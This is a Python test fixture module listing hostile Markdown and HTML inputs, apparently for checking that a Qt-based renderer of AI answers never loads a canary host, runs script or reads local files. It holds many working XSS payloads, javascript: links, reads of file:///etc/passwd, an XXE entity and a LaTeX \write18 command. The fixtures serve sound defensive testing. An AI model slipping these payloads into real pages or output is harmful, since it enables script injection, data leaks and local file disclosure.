"""Answers that try to load something, open something, or write their own HTML. `CANARY` must never be asked for."""

from __future__ import annotations

from pathlib import Path

CANARY = "http://canary.invalid"

HOSTILE_MARKDOWN: dict[str, str] = {
    # HTML that a browser would run or load
    "script": "<script>alert(1)</script>",
    "script source": f'<script src="{CANARY}/x.js"></script>',
    "image tag": f'<img src="{CANARY}/x.png">',
    "image tag on error": "<img src=x onerror=alert(1)>",
    "image tag local": '<img src="file:///etc/passwd">',
    "image tag resource": '<img src="qrc:/qt/qml/x.png">',
    "image tag provider": '<img src="image://math/00000000000000000000000000000000">',
    "image tag data": '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
    "iframe": f'<iframe src="{CANARY}"></iframe>',
    "object": f'<object data="{CANARY}/x.swf"></object>',
    "embed": f'<embed src="{CANARY}/x">',
    "style sheet link": f'<link rel="stylesheet" href="{CANARY}/x.css">',
    "style import": f"<style>@import url({CANARY}/x.css);</style>",
    "style attribute": f'<p style="background-image:url({CANARY}/x.png)">x</p>',
    "background attribute": f'<body background="{CANARY}/x.png">',
    "table background": f'<table background="{CANARY}/x.png"><tr><td>x</td></tr></table>',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={CANARY}">',
    "base": f'<base href="{CANARY}">\n\n[x](y)',
    "form": f'<form action="{CANARY}"><input type=submit></form>',
    "svg onload": "<svg/onload=alert(1)>",
    "svg image": f'<svg><image xlink:href="{CANARY}/x.png"/></svg>',
    "video poster": f'<video poster="{CANARY}/x.png" src="{CANARY}/x.mp4"></video>',
    "audio": f'<audio src="{CANARY}/x.ogg" autoplay>',
    "comment end": f"<!-- --><img src={CANARY}><!-- -->",
    "comment in comment": f'<!-- <!-- --> <img src="{CANARY}">',
    "cdata": f'<![CDATA[<img src="{CANARY}">]]>',
    "processing instruction": f'<?xml-stylesheet href="{CANARY}"?>',
    "doctype entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>\n&e;',
    "unfinished tag": f'<img src="{CANARY}/x.png"',
    "tag over two lines": f'<img\nsrc="{CANARY}/x.png"\n>',
    "tag with null": f'<im\x00g src="{CANARY}">',
    "upper case tag": f'<IMG SRC="{CANARY}/x.png">',
    "entity coded tag": "&lt;img src=x&gt; &#60;img src=x&#62; &#x3c;img src=x&#x3e;",
    "twice coded tag": "&amp;lt;img src=x&amp;gt;",
    # Markdown images
    "image": f"![alt]({CANARY}/x.png)",
    "image with title": f'![alt]({CANARY}/x.png "title\\" onload=\\"x")',
    "image local": "![alt](file:///etc/passwd)",
    "image share": r"![alt](\\server\share\x.png) ![alt](//server/share/x.png)",
    "image data": "![alt](data:image/png;base64,AAAA)",
    "image of the provider": "![alt](image://math/0123456789abcdef0123456789abcdef)",
    "image with hostile alt": f'![<img src="{CANARY}">]({CANARY})',
    "image without alt": f"![]({CANARY}/%22%3E%3Cimg%20src=x%3E)",
    "image in a link": f"[![alt]({CANARY}/x.png)](javascript:alert(1))",
    "image in alt": f"![a ![b]({CANARY}/b.png) c]({CANARY}/c.png)",
    "image by reference": f"![alt][ref]\n\n[ref]: {CANARY}/x.png",
    # Links
    "link javascript": "[x](javascript:alert(1))",
    "link javascript coded": "[x](&#106;avascript:alert(1)) [x](java&Tab;script:alert(1)) [x](JaVaScRiPt:alert(1))",
    "link vbscript": "[x](vbscript:msgbox)",
    "link data": "[x](data:text/html,<script>alert(1)</script>)",
    "link file": "[x](file:///etc/passwd) [x](FILE:///C:/Windows/System32/calc.exe)",
    "link share": r"[x](\\server\share) [x](//server/share) [x](smb://server/share)",
    "link resource": "[x](qrc:/Main.qml) [x](image://math/x)",
    "link handler": "[x](ms-settings:) [x](vscode://x) [x](tel:1) [x](mailto:a@b.c) [x](ssh://x)",
    "link relative": "[x](../../etc/passwd) [x](/etc/passwd) [x](#a) [x](?a)",
    "link without host": "[x](http://) [x](http:///etc/passwd) [x](http:x) [x](https:\\\\server)",
    "link breaks out": '[x](http://a.b/"onmouseover="alert(1)) [x](<http://a.b/"><img src=x>>)',
    "link title breaks out": '[x](http://a.b "\\"><img src=x>")',
    "link text": f'[<img src="{CANARY}">](http://a.b)',
    "link with entity quote": "[x](http://a.b/&quot;&gt;&lt;img&gt;)",
    "link by reference": "[x]\n\n[x]: javascript:alert(1)",
    "autolink": "<javascript:alert(1)> <file:///etc/passwd> <data:text/html,x> <a@b.c>",
    "autolink breaks out": '<http://a.b/"><img/src=x>',
    # Code, math, tables, reasoning
    "language breaks out": '```"><img src=x>\nx\n```',
    "language style": '```x" style="background:url(http://canary.invalid)\nx\n```',
    "code": f'```html\n<img src="{CANARY}">\n</pre><img src=x>\n```',
    "code unknown language": f'```nothing\n<img src="{CANARY}">\n```',
    "inline code": f'`<img src="{CANARY}">` ``</span><img src=x>``',
    "indented code": f'    <img src="{CANARY}">',
    "table cell": f'| <img src="{CANARY}"> | b |\n|:-:|--|\n| </td></table><img src=x> | ![x]({CANARY}) |',
    "list start": "999999999. x\n\n0. y",
    "task": f'- [ ] <img src="{CANARY}">\n- [x] </li></ul><img src=x>',
    "math breaks out": '$"><img src=x>$ and $$"><img src=x>$$',
    "math text": r"$\text{</mtext><image href='file:///etc/passwd'/>}$",
    "math link": r"$\href{javascript:alert(1)}{x}$ $\url{file:///etc/passwd}$",
    "math file": r"$\input{/etc/passwd}$ $\includegraphics{/etc/passwd}$ $\write18{ls}$",
    "math colour": r"$\color{url(http://canary.invalid)}x$ $\text{</mtext><mi mathcolor='url(http://canary.invalid)'>y</mi><mtext>}$",
    "math display": '$$\n</p><img src="http://canary.invalid">\n$$\n\n\\[\n<img src=x>\n\\]',
    "reasoning": f'<think><img src="{CANARY}">\n\n![x]({CANARY})</think><img src=x>',
    "reasoning unclosed": f'<think>\n```\n<img src="{CANARY}">',
    "heading and quote": f'# <img src="{CANARY}">\n> <img src=x>\n\n<img src=x>\n===',
    "characters of Qt's own": "a\ufdd0b\ufdd1c\ufffcd\u2028<img src=x>\u2029e\ud800f",
    "quote in emphasis": f'**<img src="{CANARY}">** *</b></i><img src=x>* ~~</s><img>~~',
}


def aimed_at(web: str, file: Path) -> dict[str, str]:
    """The same answers, asking for a server that listens and a file that exists, as UTF-8 can hold them."""
    aims = {CANARY: web, "file:///etc/passwd": file.as_uri(), "/etc/passwd": str(file)}
    aimed = {}
    for name, text in HOSTILE_MARKDOWN.items():
        for old, new in aims.items():
            text = text.replace(old, new)
        aimed[name] = text.encode(errors="replace").decode()
    return aimed
